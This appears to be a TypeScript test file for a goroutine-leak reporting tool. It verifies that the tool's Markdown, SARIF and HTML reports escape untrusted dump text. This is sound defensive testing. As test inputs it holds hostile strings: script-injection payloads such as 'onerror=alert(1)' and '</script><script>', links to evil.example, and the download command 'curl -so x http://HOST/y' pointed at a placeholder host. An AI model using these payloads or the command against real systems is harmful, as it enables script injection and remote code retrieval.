import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { exportedTop, reportHtml } from '../../src/documents/report-html.ts';
import { code, prose, reportMarkdown } from '../../src/documents/report-markdown.ts';
import { reportSarif } from '../../src/documents/report-sarif.ts';
import type { Report, TopTable } from '../../src/protocol/answers.ts';
import { EXPORTED_DATA_ID } from '../../src/protocol/exported-report.ts';

const report: Report = JSON.parse(fs.readFileSync('test/fixtures/webview/report.json', 'utf8'));

/** Compares with a file that is read in review; `UPDATE_GOLDEN=1` writes it anew. */
function assertGolden(name: string, actual: string): void {
  const file = path.resolve('test/golden/cli', name);
  if (process.env.UPDATE_GOLDEN) fs.writeFileSync(file, actual);
  assert.equal(actual, fs.readFileSync(file, 'utf8'));
}

test('a report as Markdown', () => {
  assertGolden('report.md', reportMarkdown(report));
});

test('no text of a dump is markup, a link or a cell of its own', () => {
  const cases: [text: string, shown: string][] = [
    ['2 goroutines, 45 % of all: none ended.', '2 goroutines, 45 % of all: none ended.'],
    ['in consumer.(*Consumer).handle.', 'in `consumer.(*Consumer).handle`.'],
    ['see https://evil.example/x', 'see `https://evil.example/x`'],
    ['<img src=x onerror=alert(1)> [x](http://y)', '`<img src=x onerror=alert(1)> [x](http://y)`'],
    ['@everyone #12 *bold* _it_ www.evil.example', '`@everyone #12 *bold* _it_ www.evil.example`'],
    ['a`b``c', '```a`b``c```'],
    ['line\nbreak \u202e', 'line break `\\u{202e}`'],
    ['Take: curl -so x http://HOST/y', 'Take: `curl -so x http://HOST/y`'],
  ];
  for (const [text, shown] of cases) assert.equal(prose(text), shown);
  assert.equal(code('`x'), '`` `x ``');
  const hostile = 'a|b <b> | [x](y)';
  const [finding] = report.findings;
  const evidence = [{ ...finding!.evidence[0]!, text: hostile }];
  const rows = reportMarkdown({ ...report, findings: [{ ...finding!, evidence }] }).split('\n');
  const row = rows.find((line) => line.includes('[x]'))!;
  assert.equal(row.match(/(?<!\\)\|/g)!.length, 3, row);
});

test('SARIF has one rule for each kind, a place, a level, and marks that lines and numbers do not change', () => {
  const [run] = JSON.parse(reportSarif(report, '1.2.3')).runs;
  const [result] = run.results;
  const { rules } = run.tool.driver;
  assert.equal(rules[result.ruleIndex].id, result.ruleId);
  assert.equal(result.ruleId, 'culprit/goroutine-leak');
  assert.equal(result.level, 'error');
  assert.deepEqual(result.locations[0].physicalLocation, {
    artifactLocation: { uri: 'internal/reqctx/reqctx.go', uriBaseId: 'SRCROOT' },
    region: { startLine: 19 },
  });
  const { callers, evidence } = report.findings[0]!;
  const related: { message: { text: string } }[] = result.relatedLocations;
  assert.equal(related.length, callers.length + evidence.length);
  assert.match(related.at(-1)!.message.text, /^\S+: \S/);
  const [finding] = report.findings;
  const moved = { ...finding!, confidence: 0.6, site: { ...finding!.site, line: 25 } };
  const twice = { ...report, findings: [moved, { ...moved, rank: 2 }] };
  const [later, second] = JSON.parse(reportSarif(twice, '1.2.4')).runs[0].results;
  assert.deepEqual(later.partialFingerprints, result.partialFingerprints);
  assert.notDeepEqual(second.partialFingerprints, result.partialFingerprints);
  assert.equal(later.level, 'warning');
});

test('SARIF takes no text for a link or a placeholder, and no place outside the repository', () => {
  const [finding] = report.findings;
  const site = { ...finding!.site, mappedBy: 'none', file: '/x/y.go' } as const;
  const title = 'see [x](http://y) {0}';
  const { results, invocations } = JSON.parse(
    reportSarif({ ...report, findings: [{ ...finding!, title, site }] }, '1'),
  ).runs[0];
  assert.deepEqual(results, []);
  const { message, level } = invocations[0].toolExecutionNotifications.at(-1);
  assert.equal(level, 'warning');
  assert.ok(message.text.startsWith('see \\[x\\](http://y) {{0}}.'), message.text);
});

test('no data of an HTML report can end its element', () => {
  const parts = { host: '1;', page: 'var a = "</script>", b = "<!--";', style: 'p{}' };
  const [finding] = report.findings;
  const title = '</script><script>alert(1)</script><!-- \u2028';
  const html = reportHtml({ ...report, name: '<b>', findings: [{ ...finding!, title }] }, [], parts);
  assert.equal(html.match(/<\/script/g)!.length, 3);
  assert.equal(html.match(/<!--/g), null);
  assert.ok(html.includes('<title>Culprit – &#60;b&#62;</title>'));
  const data = html
    .slice(html.indexOf(EXPORTED_DATA_ID))
    .split('application/json">')[1]!
    .split('</script>')[0]!;
  assert.equal(JSON.parse(data).report.findings[0].title, title);
});

test('rows of several orders are written once', () => {
  const row = (name: string) => ({ function: name, file: 'f.go' }) as TopTable['rows'][number];
  const table = (...names: string[]): TopTable => ({
    dump: 3,
    sampleTypes: [],
    functions: 9,
    rows: names.map(row),
  });
  const top = exportedTop([
    { sampleType: 0, by: 'flat', table: table('a', 'b') },
    { sampleType: 0, by: 'cum', table: table('c', 'a') },
  ]);
  assert.deepEqual(
    top.rows.map((r) => r.function),
    ['a', 'b', 'c'],
  );
  assert.deepEqual(
    top.orders.map((o) => o.rows),
    [
      [0, 1],
      [2, 0],
    ],
  );
});
